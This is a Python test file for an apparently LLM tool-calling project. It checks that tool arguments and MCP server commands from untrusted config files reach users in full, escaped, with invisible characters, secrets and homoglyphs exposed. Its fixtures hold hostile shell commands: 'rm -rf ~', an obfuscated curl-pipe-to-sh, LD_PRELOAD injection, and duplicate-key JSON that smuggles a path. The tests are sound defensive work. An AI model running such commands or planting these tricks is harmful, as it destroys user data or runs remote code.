"""What a person is asked to allow is what then happens: all of it, and nothing of it unseen."""

from __future__ import annotations

import asyncio
import html
import json
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llamafarm.access.operator import Rights
from llamafarm.config import parse
from llamafarm.core.types import JsonValue, Tool
from llamafarm.engine.tool_loop.functions import arguments_of
from llamafarm.ui.compare.tools import ASKED, Held, held_card, told, tool_list
from llamafarm.ui.lab.view import patch_view
from llamafarm.ui.project.file_cards import ASKED as ASKED_OF_FILES
from llamafarm.ui.project.file_cards import TOO_MUCH, asks, too_much

UNSEEN = "\u202e\u200b\u2066\U000e0041\u2028\x1b\x9b\u00a0\ufeff\u3164\r"
json_values: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)


@given(st.dictionaries(st.text(), json_values, max_size=4))
def test_what_is_shown_is_what_is_sent(arguments: dict[str, JsonValue]) -> None:
    shown = told(arguments)
    assert shown is not None
    assert json.loads(shown) == arguments


def test_nothing_is_cut() -> None:
    shown = told({"script": "x" * 50_000 + "; rm -rf ~"})
    assert shown is not None
    assert shown.endswith('; rm -rf ~"\n}')


def test_what_has_no_picture_is_told() -> None:
    shown = told({f"a{UNSEEN}": [UNSEEN]})
    assert shown is not None
    assert shown.isascii()
    assert "\\u202e\\u200b\\u2066\\udb40\\udc41\\u2028\\u001b\\u009b\\u00a0\\ufeff\\u3164\\r" in shown


@pytest.mark.parametrize(
    "arguments",
    [{"a": "x" * ASKED}, {"a": "\u202e" * (ASKED // 6)}, {"x" * ASKED: 1}, {str(at): at for at in range(ASKED)}],
)
def test_what_is_too_long_is_not_shown_in_part(arguments: Mapping[str, JsonValue]) -> None:
    assert told(arguments) is None


def test_what_is_nested_too_deep_is_refused() -> None:
    deep: JsonValue = 1
    for _ in range(900):
        deep = [deep]
    assert told({"a": deep}) is None or len(told({"a": deep}) or "") > 900


async def test_the_card_tells_the_whole_call_and_names_with_nothing_unseen() -> None:
    tool = Tool(f"fa{UNSEEN}rm", f"<b>read{UNSEEN}file</b>", "x", "", {})
    held = Held(
        "k", "lane", tool, told({"path": f"/etc{UNSEEN}<script>"}) or "", asyncio.get_running_loop().create_future()
    )
    card = held_card([held], lambda lane: f"{lane}{UNSEEN}")
    assert not set(UNSEEN) & set(card)
    assert "&lt;b&gt;read\\u202e" in card
    assert html.escape(held.sent) in card


def test_a_list_of_tools_tells_all_that_a_server_says() -> None:
    tool = Tool("farm", f"read{UNSEEN}", "x", "Reads. " + "y" * 500 + UNSEEN + "<i>end</i>", {"title": UNSEEN})
    listed = tool_list([tool], {f"other{UNSEEN}": "why"})
    assert not set(UNSEEN) & set(listed)
    assert "&lt;i&gt;end&lt;/i&gt;" in listed


@pytest.mark.parametrize(
    "text",
    ['{"path": "/safe", "path": "/etc"}', '{"a": {"b": 1, "b": 2}}', '{"n": NaN}', '{"n": 1e400}', '{"s": "\\udc00"}'],
)
def test_what_parsers_read_differently_is_never_sent(text: str) -> None:
    assert arguments_of(text) is None


# --- a file that is not trusted


FILE = """version: v1
name: x
namespace: n
runtime:
  models: [{name: m, provider: ollama, model: x}]
mcp:
  servers:
"""


def asked_by(servers: str) -> list[tuple[str, str]]:
    return [(ask.kind, ask.target) for ask in parse(FILE + servers, name="x.yaml", trusted=False, environ={}).asks]


@pytest.mark.parametrize(
    ("servers", "expected"),
    [
        ("    - {name: a, command: sh, args: [-c, 'rm -rf ~; echo hi']}", [("command", "sh -c 'rm -rf ~; echo hi'")]),
        ("    - {name: a, command: 'my tool', args: ['', '7']}", [("command", "'my tool' '' 7")]),
        ("    - {name: a, command: ls, env: {LD_PRELOAD: /tmp/x.so, API_TOKEN: abc123def456}}", [("command", "LD_PRELOAD=/tmp/x.so API_TOKEN=(hidden) ls")]),
        ("    - {name: a, command: bash, args: [-u, /tmp/evil.sh]}", [("command", "bash -u /tmp/evil.sh")]),
        ("    - {name: a, command: sh, args: [-c, 'TOKEN=$(curl${IFS}h|sh)']}", [("variable", "sh -c 'TOKEN=$(curl${IFS}h|sh)'"), ("command", "sh -c 'TOKEN=$(curl${IFS}h|sh)'")]),
        ("    - {name: a, command: sh, args: [-c, 'TOKEN=`curl h|sh`']}", [("command", "sh -c 'TOKEN=`curl h|sh`'")]),
        ("    - {name: a, command: t, args: [--token, abc123def456]}", [("command", "t --token (hidden)")]),
        ("    a: {command: ls}", [("command", "ls")]),
        ("    - {name: a, command: ls, transport: http, base_url: 'https://h.example/deep/path'}", [("server", "https://h.example/deep/path")]),
        ("    - {name: a, command: ls, base_url: 'https://h.example/'}", [("command", "ls")]),
        ("    - {name: a, base_url: 'https://u:p@h.example/x?key=k', headers: {X-Mode: all}}", [("server", "https://(hidden)@h.example/x?key=(hidden) with X-Mode: all")]),
        ("    - {name: a, command: sh, args: [-c, '${PATH_TO}']}", [("variable", "sh -c '${PATH_TO}'"), ("command", "sh -c '${PATH_TO}'")]),
        ("    - {name: a, command: '${CMD:-rm}', args: ['-rf']}", [("variable", "'${CMD:-rm}' -rf"), ("command", "'${CMD:-rm}' -rf")]),
    ],
)  # fmt: skip
def test_what_would_start_or_be_called_is_told_whole(servers: str, expected: list[tuple[str, str]]) -> None:
    assert asked_by(servers) == expected


def test_a_server_whose_form_a_variable_decides_is_told_as_it_is_written() -> None:
    [variable, (kind, target)] = asked_by("    - {name: a, transport: '${T}', command: rm, args: ['-rf']}")
    assert variable[0] == "variable"
    assert kind == "command"
    assert '"command": "rm"' in target


def test_every_server_that_would_run_is_asked_for() -> None:
    for servers in (
        "    - {name: a, command: ls, args: [1, x]}",
        "    - {name: b, transport: '${T}', command: ls}",
        "    c: {command: ls, timeout: 3}",
    ):
        trusted = parse(FILE + servers, name="x.yaml", trusted=True, environ={"T": "stdio"}).project
        assert trusted is not None
        assert len(trusted.mcp_servers) <= len([kind for kind, _ in asked_by(servers) if kind in ("command", "server")])


def test_the_trust_card_shows_nothing_unseen() -> None:
    loaded = parse(
        FILE + f"    - {{name: a, command: sh, args: [{json.dumps(UNSEEN[:3] + UNSEEN[4:])}, '<b>']}}",
        name="x.yaml",
        trusted=False,
    )
    card = asks(loaded, Rights(trust=True))
    assert not set(UNSEEN) & set(card)
    assert "\\u202e" in card
    assert "&lt;b&gt;" in card


def test_what_asks_too_much_to_be_shown_can_t_be_trusted() -> None:
    loaded = parse(
        FILE + f"    - {{name: a, command: sh, args: [{'x' * ASKED_OF_FILES}]}}", name="x.yaml", trusted=False
    )
    assert too_much(loaded)
    assert html.escape(TOO_MUCH) in asks(loaded, Rights(trust=True))


def test_a_change_that_is_applied_shows_nothing_unseen() -> None:
    assert not set(UNSEEN) & set(patch_view(f"--- a\n+++ b\n+temperature: 1{UNSEEN}".replace("\r", ""), ""))


def test_the_trust_card_names_what_looks_like_another_character() -> None:
    card = asks(
        parse(FILE + "    - {name: a, command: b\u0430sh, args: [-c, ls]}", name="x.yaml", trusted=False),
        Rights(trust=True),
    )
    assert "Looks like another character: \u0430 is cyrillic small letter a (U+0430)." in card
    plain = asks(parse(FILE + "    - {name: a, command: bash}", name="x.yaml", trusted=False), Rights(trust=True))
    assert "Looks like" not in plain
